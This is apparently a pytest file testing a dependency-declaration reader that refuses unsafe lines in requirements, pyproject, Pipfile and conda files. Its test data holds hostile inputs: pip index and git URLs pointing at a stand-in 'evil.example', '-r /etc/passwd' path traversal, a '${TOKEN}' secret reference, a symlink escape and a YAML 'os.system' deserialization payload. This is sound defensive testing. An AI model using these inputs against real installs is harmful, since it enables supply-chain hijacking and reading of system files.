"""What a repository declares: what is honoured of it, and what is refused and said."""

from __future__ import annotations

import codecs
import json
from pathlib import Path

import pytest

from pushtune.environment.declared import Declared, read_declared


def declared(folder: Path, **files: str) -> Declared:
    for name, text in files.items():
        path = folder / name.replace("__", "/").replace("_dot_", ".")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return read_declared(str(folder), "train.py")


def names(found: Declared) -> list[str]:
    return [line.requirement for line in found.lines]


def whys(found: Declared) -> dict[str, str]:
    return {refused.text: refused.why for refused in found.refused}


def test_nothing_is_declared_where_there_is_no_file(tmp_path: Path) -> None:
    assert declared(tmp_path, train_dot_py="import numpy\n") == Declared()


def test_requirements_are_read_with_their_lines(tmp_path: Path) -> None:
    found = declared(
        tmp_path, requirements_dot_txt="# what it needs\nnumpy >= 1.20 # arrays\n\nPillow[x]==9.5\n"
    )
    assert [(line.requirement, line.line) for line in found.lines] == [
        ("numpy>=1.20", 2),
        ("pillow[x]==9.5", 4),
    ]


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("-e .", "code of the repository"),
        ("./vendored", "code of the repository"),
        ("vendored/thing.whl", "code of the repository"),
        ("--index-url https://evil.example/simple", "not the repository's to choose"),
        ("--extra-index-url=https://evil.example/simple", "not the repository's to choose"),
        ("-i https://evil.example/simple", "not the repository's to choose"),
        ("--find-links /tmp", "not the repository's to choose"),
        ("--trusted-host evil.example", "not the repository's to choose"),
        ("-c constraints.txt", "constraint files are not read"),
        ("--pre", "options for pip"),
        ("numpy --global-option=x", "options for pip"),
        ("git+ssh://git@evil.example/x", "from the index only"),
        ("-e git+https://evil.example/x#egg=x", "from the index only"),
        ("x @ https://evil.example/x.whl", "from the index only"),
        ("-r ../../etc/passwd", "only files of the repository"),
        ("-r /etc/passwd", "only files of the repository"),
        ("-r https://evil.example/r.txt", "only files of the repository"),
        ("-r missing.txt", "no such file"),
        ("numpy==${TOKEN}", "may be secrets"),
        ("num py", "could not read it"),
        ("numpy\x07", "no requirement looks like that"),
    ],
)
def test_what_a_repository_may_not_tell_pip_is_refused_and_said(tmp_path: Path, line: str, why: str) -> None:
    found = declared(tmp_path, requirements_dot_txt=f"{line}\nscipy\n")
    assert names(found) == ["scipy"]
    assert len(found.refused) == 1
    assert why in found.refused[0].why
    assert (found.refused[0].file, found.refused[0].line) == ("requirements.txt", 1)


def test_markers_are_read_for_the_python_that_trials_run_on(tmp_path: Path) -> None:
    text = 'a1; python_version < "3.8"\nb1; python_version >= "3.8"\nc1; sys_platform == "win32"\n'
    assert names(declared(tmp_path, requirements_dot_txt=text)) == ["b1"]


def test_hashes_are_kept_for_pip_to_check(tmp_path: Path) -> None:
    digest = "sha256:" + "a" * 64
    found = declared(tmp_path, requirements_dot_txt=f"six==1.17.0 \\\n  --hash={digest}\n")
    assert [(line.requirement, line.hashes) for line in found.lines] == [("six==1.17.0", (digest,))]


def test_a_build_for_one_kind_of_machine_and_a_file_elsewhere_are_left_out_and_said(tmp_path: Path) -> None:
    text = "torch==2.0.1+cu118\nscipy @ file:///home/conda/feedstock_root/scipy\nkeras=2.3.1=py37_0\n"
    found = declared(tmp_path, requirements_dot_txt=text)
    assert names(found) == ["torch==2.0.1", "scipy", "keras==2.3.1"]
    assert [bool(line.note) for line in found.lines] == [True, True, False]


def test_included_files_are_read_and_a_circle_of_them_ends(tmp_path: Path) -> None:
    found = declared(
        tmp_path,
        requirements_dot_txt="-r more.txt\n" * 3,
        more_dot_txt="scipy\n" + "-r requirements.txt\n" * 3,
    )
    assert set(names(found)) == {"scipy"}
    assert any("deep" in refused.why or "no such file" in refused.why for refused in found.refused)


def test_what_powershell_writes_is_read(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes(codecs.BOM_UTF16_LE + "numpy==1.26.4\r\n".encode("utf-16-le"))
    assert names(read_declared(str(tmp_path), "train.py")) == ["numpy==1.26.4"]


def test_no_link_is_followed_and_no_pipe_is_waited_for(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("stolen\n")
    inside = tmp_path / "repository"
    inside.mkdir()
    (inside / "requirements.txt").symlink_to(outside)
    assert read_declared(str(inside), "train.py") == Declared()


def test_the_block_of_inline_metadata_comes_first(tmp_path: Path) -> None:
    block = '# /// script\n# requires-python = ">=3.10"\n# dependencies = ["scipy<2", "numpy"]\n# ///\n'
    script = f"{block}import scipy\n"
    found = declared(tmp_path, train_dot_py=script, requirements_dot_txt="pandas\n")
    assert (found.file, names(found), found.python) == ("train.py", ["scipy<2", "numpy"], ">=3.10")
    assert found.others == ("requirements.txt",)


def test_pyproject_is_read_with_the_versions_of_its_lock_file(tmp_path: Path) -> None:
    project = '[project]\nname = "x"\nrequires-python = ">=3.9"\ndependencies = ["numpy>=1", "scipy"]\n'
    lock = '[[package]]\nname = "numpy"\nversion = "1.26.4"\n'
    found = declared(tmp_path, pyproject_dot_toml=project, uv_dot_lock=lock)
    assert (names(found), found.python) == (["numpy==1.26.4", "scipy"], ">=3.9")
    assert found.lines[0].line == 4


def test_poetry_is_read(tmp_path: Path) -> None:
    text = (
        '[tool.poetry.dependencies]\npython = "^3.8"\nnumpy = "^1.20"\nscipy = "~1.7"\n'
        'pandas = {version = "*", extras = ["xml"]}\nmine = {git = "https://evil.example/x"}\n'
    )
    found = declared(tmp_path, pyproject_dot_toml=text)
    assert names(found) == ["numpy<2,>=1.20", "scipy<1.8,>=1.7", "pandas[xml]"]
    assert [refused.why for refused in found.refused] == [
        "packages come from the index only, not from addresses"
    ]
    assert found.python == ">=3.8,<4"


def test_pipfile_is_read_with_its_lock(tmp_path: Path) -> None:
    lock = json.dumps({"default": {"numpy": {"version": "==1.26.4"}}})
    found = declared(tmp_path, Pipfile='[packages]\nnumpy = "*"\n', Pipfile_dot_lock=lock)
    assert names(found) == ["numpy==1.26.4"]


def test_an_environment_of_conda_is_read(tmp_path: Path) -> None:
    text = (
        "name: x\ndependencies:\n  - python=3.9\n  - conda-forge::numpy=1.21\n  - pytorch>=1.10\n"
        "  - cudatoolkit=11\n  - pip:\n    - keras==2.4.3\n    - -e .\n"
    )
    found = declared(tmp_path, environment_dot_yml=text)
    assert names(found) == ["numpy==1.21", "torch>=1.10", "keras==2.4.3"]
    assert found.python == "==3.9.*"


@pytest.mark.parametrize(
    "text", ["[project\n", "!!python/object/apply:os.system [x]", "\x00" * 100, "- - - -\n" * 50]
)
@pytest.mark.parametrize("name", ["pyproject.toml", "Pipfile", "environment.yml", "requirements.txt"])
def test_a_broken_file_declares_nothing(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    assert read_declared(str(tmp_path), "train.py").lines == ()
